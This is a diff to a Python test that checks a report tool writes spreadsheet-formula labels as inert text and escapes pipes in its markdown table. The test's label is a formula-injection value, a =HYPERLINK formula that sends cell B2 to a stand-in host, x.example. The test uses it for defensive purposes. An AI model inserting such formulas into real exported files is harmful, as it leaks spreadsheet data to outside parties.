@@ -985,7 +985,7 @@ def test_a_received_label_that_a_spreadsheet_would_run_is_written_as_text(sweep,
     runs a cell starting with = + - @ (=HYPERLINK sends the sheet away), and into results.md, where a | broke the
     table. Such text is written after a "'" (and read back without it: report after report it stays one)."""
     out, _ = _copy(sweep, tmp_path)
-    label = '=HYPERLINK("http://x.example/?"&B2,"ste")|+1'
+    label = '=HYPERLINK("http://x.example/?"&B2,"ste")|+1\\|2'
     manifest = json.loads((out / "sweep.json").read_text())
     (setting,) = [s for s in manifest["settings"] if s["label"] == "estimator=ste"]
     setting["label"] = label
@@ -999,7 +999,7 @@ def test_a_received_label_that_a_spreadsheet_would_run_is_written_as_text(sweep,
         assert "'" + label in cells and label not in cells, (name, cells)
     assert {r["setting"] for r in report._read_csv(out / "runs.csv")} == {label, "estimator=reste"}
     md = [line for line in (out / "results.md").read_text().splitlines() if "HYPERLINK" in line]
-    assert len(md) == 1 and md[0].startswith("| =HYPERLINK(" + chr(34)) and "ste\")\\|+1 |" in md[0]
+    assert len(md) == 1 and md[0].startswith("| =HYPERLINK(" + chr(34)) and "ste\")\\|+1\\\\\\|2 |" in md[0]
     assert md[0].count(" | ") == (out / "results.md").read_text().splitlines()[4].count(" | ")
 
 
